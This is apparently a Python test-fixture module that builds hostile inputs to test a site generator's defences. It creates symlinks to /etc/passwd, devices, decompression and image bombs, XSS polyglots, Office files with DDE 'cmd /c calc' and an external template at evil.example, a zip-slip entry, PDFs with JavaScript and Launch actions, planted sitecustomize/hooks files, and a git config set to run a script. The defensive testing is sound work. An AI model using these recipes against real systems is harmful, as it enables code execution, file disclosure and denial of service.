"""What git cannot hold of the attacks in `tests/attacks/`: links, pipes, devices, bombs, packages with traps."""

from __future__ import annotations

import contextlib
import io
import os
import socket
import stat
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image

FIFTY_MEGABYTES = 50_000_000
EVIL = "import pathlib\npathlib.Path(__file__).resolve().parent.joinpath('pwned').touch()\n"
NOTICE = "title: 公告\nkind: announcement\non: 2011-03-01\ntext: 正文\n"


def put(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)


def jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 6), "red").save(buffer, "JPEG")
    return buffer.getvalue()


def package(**parts: bytes | str) -> bytes:
    """Make a zip package; names have __ for / and _ before the extension for the dot."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            stem, _, suffix = name.replace("__", "/").rpartition("_")
            archive.writestr(f"{stem}.{suffix}", content)
    return buffer.getvalue()


def named_package(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def png(width: int, height: int, *more: tuple[bytes, bytes]) -> bytes:
    """Make a PNG that says it is *width* × *height*, with hardly any pixels in it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes((8, 2, 0, 0, 0))
    body = b"".join(chunk(kind, data) for kind, data in more)
    pixels = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + pixels + chunk(b"IEND", b"")


def symbolic_links(project: Path) -> None:
    content = project / "content"
    secret = project / "secret.yml"
    put(secret, "name: 秘密\nkind: committee\nsector: rural\n")
    (content / "organisations" / "linked.yml").symlink_to(secret)
    (content / "organisations" / "round.yml").symlink_to("round.yml")
    (content / "photos").symlink_to("/etc")
    (content / "pages").mkdir()
    (content / "pages" / "passwd.md").symlink_to("/etc/passwd")
    (content / "pages" / "inner").symlink_to("/etc")
    (content / "files").mkdir()
    (content / "files" / "zero.txt").symlink_to("/dev/zero")


def special_files(project: Path) -> None:
    content = project / "content"
    for place in ("pages/a.md", "pages/b.png", "photos/a.jpg", "files/a.txt", "pledges/a.yml"):
        (content / place).parent.mkdir(exist_ok=True)
        os.mkfifo(content / place)
    with contextlib.suppress(OSError), contextlib.chdir(content / "files"), socket.socket(socket.AF_UNIX) as door:
        door.bind("b.txt")


def special_files_of_project(project: Path) -> None:
    for name in ("privacy_waivers.yml", "removed.yml"):
        os.mkfifo(project / name)


def device_files(project: Path) -> None:
    """Put devices there; raises PermissionError where only an administrator may."""
    for place, number in (("files/null.txt", 3), ("pledges/zero.yml", 5), ("pages/zero.md", 5)):
        (project / "content" / place).parent.mkdir(exist_ok=True)
        os.mknod(project / "content" / place, stat.S_IFCHR | 0o644, os.makedev(1, number))


def big_files(project: Path) -> None:
    content = project / "content"
    line = "# 这一行只为了把文件撑大。\n".encode()
    long = line * (FIFTY_MEGABYTES // len(line))
    for place in ("pledges/big.yml", "pages/big.md"):
        put(content / place, long)
    put(
        content / "notices" / "a.yml",
        NOTICE + "photos: {file: photos/big.jpg, caption: 照片}\nsources: files/big.txt\n",
    )
    put(content / "photos" / "big.jpg", jpeg() + long)
    put(content / "files" / "big.txt", long)
    put(project / "removed.yml", long)
    put(project / "privacy_waivers.yml", long)


def big_config(project: Path) -> None:
    with (project / "site_config.yml").open("ab") as file:
        file.write(b"# x\n" * (FIFTY_MEGABYTES // 4))


def colliding_names(project: Path) -> None:
    content = project / "content"
    for name in ("photos/Road.jpg", "photos/road.JPG", "pledges/Road.yml"):
        put(content / name, jpeg() if name.startswith("photos") else (content / "pledges/road.yml").read_bytes())


def accent_names(project: Path) -> None:
    for name in ("caf\u00e9.txt", "cafe\u0301.txt"):
        put(project / "content" / "files" / name, "x")


def photo_bombs(project: Path) -> None:
    photos = project / "content" / "photos"
    put(photos / "bomb.png", png(65_000, 65_000))
    put(photos / "strip.png", png(2_000_000_000, 1))
    put(photos / "text.png", png(8, 8, (b"zTXt", b"Comment\0\0" + zlib.compress(bytes(80_000_000), 9))))
    put(photos / "gif.jpg", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//")
    put(photos / "html.jpg", "<script>alert(1)</script>")
    put(photos / "svg.png", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    put(photos / "cut.jpg", jpeg()[:200])
    put(photos / "empty.jpg", b"")


def photo_polyglot(project: Path) -> None:
    put(project / "content/photos/zip.jpg", jpeg() + package(evil_js="alert(1)"))


def attachment_lies(project: Path) -> None:
    files = project / "content" / "files"
    page = "<!doctype html><script>alert(1)</script>"
    for name in ("html.pdf", "html.jpg", "page.html", "html.txt", "swf.mp4", "svg.svg"):
        put(files / name, page)
    put(files / "zip.jpg", jpeg() + package(evil_js="alert(1)"))
    put(files / "exe.xlsx", b"MZ\x90\x00" + bytes(200))
    put(files / "jpg.zip", jpeg())


_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_WORDS = "<w:document xmlns:w='w'><w:body><w:p><w:r><w:t>正文</w:t></w:r></w:p></w:body></w:document>"
_OUTSIDE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
_SHEET = (
    "<worksheet><sheetData><row><c r='A1'><f>"
    "DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;1&quot;)</f></c></row></sheetData></worksheet>"
)
_DDE = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
_BILLION = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><w>&b;</w>'


def office_traps(project: Path) -> None:
    files = project / "content" / "files"
    word: dict[str, bytes | str] = {"[Content_Types].xml": _TYPES, "word/document.xml": _WORDS}
    put(files / "macro.docx", named_package({**word, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(99)}))
    put(files / "external.docx", named_package({**word, "word/_rels/settings.xml.rels": _OUTSIDE}))
    put(files / "entity.docx", named_package({**word, "word/document.xml": _BILLION}))
    bomb = b"<c><v>1</v></c>" * 6_000_000
    put(files / "bomb.xlsx", named_package({"[Content_Types].xml": _TYPES, "xl/worksheets/sheet1.xml": bomb}))
    put(
        files / "dde.xlsx",
        named_package(
            {
                "[Content_Types].xml": _TYPES,
                "xl/worksheets/sheet1.xml": _SHEET,
                "xl/externalLinks/externalLink1.xml": _DDE,
            }
        ),
    )
    inner = package(a_txt="x")
    for _ in range(6):
        inner = package(inner_zip=inner)
    put(files / "nested.zip", inner)
    put(files / "slip.zip", named_package({"../../evil.sh": "x"}))
    put(files / "program.zip", named_package({"办事指南.exe": b"MZ" + bytes(99), "a.js": "x", "b.lnk": "x"}))


def _pdf(*objects: str) -> bytes:
    body = "".join(f"{number} 0 obj\n{text}\nendobj\n" for number, text in enumerate(objects, 1))
    return f"%PDF-1.7\n{body}trailer\n<< /Root 1 0 R /Size {len(objects) + 1} >>\n%%EOF\n".encode()


_PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>"


def pdf_traps(project: Path) -> None:
    files = project / "content" / "files"
    script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    put(files / "script.pdf", _pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", _PAGES, _PAGE, script))
    launch = "<< /S /Launch /F (calc.exe) >>"
    put(files / "launch.pdf", _pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", _PAGES, _PAGE, launch))
    packed = zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert) >>")
    stream = f"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)} >>\nstream\n"
    whole = _pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", _PAGES, _PAGE)
    put(files / "objstm.pdf", whole + b"9 0 obj\n" + stream.encode() + packed + b"\nendstream\nendobj\n")
    put(files / "loop.pdf", _pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 99999 >>"))


def mkdocs_lying_about(project: Path) -> None:
    for name in ("hooks.py", "yaml.py", "sitecustomize.py", "markdown/__init__.py", "generator/__init__.py"):
        put(project / name, EVIL)


def git_that_runs_programs(project: Path) -> None:
    """Make a repository whose own settings start programs, signed commits and absent objects included."""
    evil = project / "evil.sh"
    put(evil, f"#!/bin/sh\ntouch {project / 'pwned'}\n")
    evil.chmod(0o755)

    def git(*words: str) -> None:
        subprocess.run(["git", "-C", str(project), *words], check=True, capture_output=True)

    git("init", "--quiet")
    git("add", "content", "site_config.yml")
    git("-c", "user.name=a", "-c", "user.email=a@example.org", "commit", "--quiet", "-m", "a")
    raw = subprocess.run(
        ["git", "-C", str(project), "cat-file", "commit", "HEAD"], check=True, capture_output=True, text=True
    ).stdout
    head, _, rest = raw.partition("\n\n")
    signature = "gpgsig -----BEGIN PGP SIGNATURE-----\n \n iQ\n -----END PGP SIGNATURE-----"
    signed = subprocess.run(
        ["git", "-C", str(project), "hash-object", "-t", "commit", "-w", "--stdin"],
        check=True, capture_output=True, text=True, input=f"{head}\n{signature}\n\n{rest}",
    ).stdout.strip()  # fmt: skip
    git("update-ref", "HEAD", signed)
    for key in ("core.fsmonitor", "core.pager", "gpg.program", "core.sshCommand", "core.askPass", "diff.external",
                "core.editor", "credential.helper", "remote.origin.uploadpack", "filter.x.clean", "filter.x.smudge",
                "alias.log", "pager.log", "core.alternateRefsCommand", "trailer.x.command"):  # fmt: skip
        git("config", key, str(evil) if not key.startswith("alias") else f"!{evil}")
    git("config", "log.showSignature", "true")
    git("config", "core.hooksPath", str(project))
    git("config", "remote.origin.url", str(project))
    git("config", "remote.origin.promisor", "true")
    git("config", "extensions.partialClone", "origin")
    git("config", "core.repositoryformatversion", "1")
    put(project / ".gitattributes", "* filter=x diff=x\n")
    for hook in ("post-checkout", "post-index-change", "fsmonitor-watchman", "reference-transaction", "pre-commit"):
        put(project / ".git/hooks" / hook, evil.read_bytes())
        (project / ".git/hooks" / hook).chmod(0o755)
    for pack in sorted((project / ".git/objects").glob("??/*")):  # a tree that must be fetched from "origin"
        kind = subprocess.run(
            ["git", "-C", str(project), "cat-file", "-t", pack.parent.name + pack.name], capture_output=True, text=True
        ).stdout.strip()
        if kind == "tree":
            pack.unlink()
            break
    (project / "pwned").unlink(missing_ok=True)


RECIPES: dict[str, Callable[[Path], None]] = {
    made.__name__.replace("_", "-"): made
    for made in (
        symbolic_links, special_files, special_files_of_project, device_files, big_files, big_config, colliding_names,
        accent_names, photo_bombs, photo_polyglot, attachment_lies, office_traps, pdf_traps, mkdocs_lying_about,
        git_that_runs_programs,
    )
}  # fmt: skip
